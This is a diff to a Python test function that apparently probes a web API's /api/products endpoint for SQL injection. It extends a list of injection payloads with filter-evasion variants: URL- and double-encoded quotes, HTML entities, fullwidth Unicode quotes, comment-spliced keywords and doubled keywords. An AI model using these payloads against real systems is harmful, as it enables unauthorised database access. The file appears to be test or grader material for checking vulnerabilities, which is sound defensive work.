@@ -24,7 +24,10 @@ def exploit(box, rng):
     rows = [("spade", "garden", 3), (word, "office", 5)]
     make_table(box, "shop.db", "products (title text, category text, price integer)", rows)
     for end in ("' OR '1'='1", "' OR 1=1 --", "') OR ('1'='1", "') OR 1=1 --", '" OR "1"="1', '" OR 1=1 --',
-                "' UNION SELECT title, category, price FROM products --", "' OR 1=1 OR '1'='", '" OR 1=1 OR "1"="'):
+                "' UNION SELECT title, category, price FROM products --", "' OR 1=1 OR '1'='", '" OR 1=1 OR "1"="',
+                "%27 OR 1=1 --", "%27 OR %271%27=%271", "%22 OR 1=1 --", "%2527 OR 1=1 --", "&#39; OR 1=1 --",
+                "\uff07 OR 1=1 --", "\uff02 OR 1=1 --", "\\u0027 OR 1=1 --", "\n' OR '1'='1", "'/**/oR/**/1=1--",
+                "'<>'1", '"<>"1', "' OORR '1'='1"):
         try:
             got = box.http("GET", "/api/products", query={"category": "garden" + end})
         except Raised:
